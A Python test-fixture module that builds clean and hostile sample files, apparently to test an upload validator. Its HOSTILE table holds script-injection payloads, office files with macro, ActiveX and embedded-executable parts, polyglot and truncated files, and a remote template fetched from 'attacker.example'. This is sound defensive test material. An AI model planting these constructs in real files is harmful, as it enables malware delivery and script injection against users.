"""Files that show a product, and files that pretend to."""

import io
import zipfile
from collections.abc import Mapping
from typing import Final

from PIL import Image

MARK: Final = "BimatSecretPlace"
PDF: Final = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
_TYPES: Final = "application/vnd.openxmlformats-officedocument"
_MAIN: Final = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
_RELATION: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def types_of(kind: str) -> str:
    """The media type of an office file."""
    return f"{_TYPES}.{_MAIN[kind][1]}"


def relations(*relations: tuple[str, str, str]) -> str:
    """A part with relations: kind, target, mode."""
    inner = "".join(
        f'<Relationship Id="r{at}" Type="{_RELATION}/{kind}" Target="{target}"{mode}/>'
        for at, (kind, target, mode) in enumerate(relations)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def office(kind: str = "docx", parts: Mapping[str, str | bytes] = {}, main_type: str | None = None) -> bytes:
    """A small office file, with more parts or others."""
    main, short = _MAIN[kind]
    said = main_type or f"{_TYPES}.{short}.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{said}"/>'
        "</Types>"
    )
    whole: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "_rels/.rels": relations(("officeDocument", main, "")),
        main: "<document/>",
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (whole | dict(parts)).items():
            archive.writestr(name, content)
    return file.getvalue()


def jpeg(*, place: str | None = None) -> bytes:
    """A picture; `place` stands in its metadata."""
    file = io.BytesIO()
    data = Image.Exif()
    if place:
        data[0x010E] = place
    Image.linear_gradient("L").resize((64, 48)).save(file, "JPEG", exif=data)
    return file.getvalue()


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        zipped.writestr("thu.txt", MARK)
    return file.getvalue()


EXTERNAL: Final = ' TargetMode="External"'
ELSEWHERE: Final = "http://attacker.example/mau.dotm"
HOSTILE: Final[Mapping[str, bytes]] = {
    "nothing": b"",
    "a page": b"<!DOCTYPE html><script>alert(1)</script>",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a program": b"MZ" + bytes(2000),
    "an old .doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "RTF": b"{\\rtf1 hello}",
    "an archive": archive(),
    "macros": office(parts={"word/vbaProject.bin": b"macro"}),
    "macros under another name": office(
        parts={"word/x.bin": b"macro"}, main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
    ),
    "macro sheets": office("xlsx", {"xl/macrosheets/sheet1.xml": "<m/>"}),
    "controls": office(parts={"word/activeX/activeX1.xml": "<ax/>"}),
    "a program within": office(parts={"word/embeddings/oleObject1.bin": b"MZ"}),
    "a template from elsewhere": office(
        parts={"word/_rels/settings.xml.rels": relations(("attachedTemplate", ELSEWHERE, EXTERNAL))}
    ),
    "an object from elsewhere": office(
        "pptx", {"ppt/slides/_rels/slide1.xml.rels": relations(("oleObject", ELSEWHERE, EXTERNAL))}
    ),
    "a document type": office(parts={"word/document.xml": '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'}),
    "no document": office(parts={"_rels/.rels": relations(("officeDocument", "word/other.xml", ""))}),
    "no XML": office(parts={"word/document.xml": "<document>"}),
    "something behind": office() + b"<script>alert(1)</script>",
    "something before": archive() + office(),
    "half": office()[:-30],
    "PDF with a page behind": PDF + b"<html>",
    "half a picture": jpeg()[:200],
}
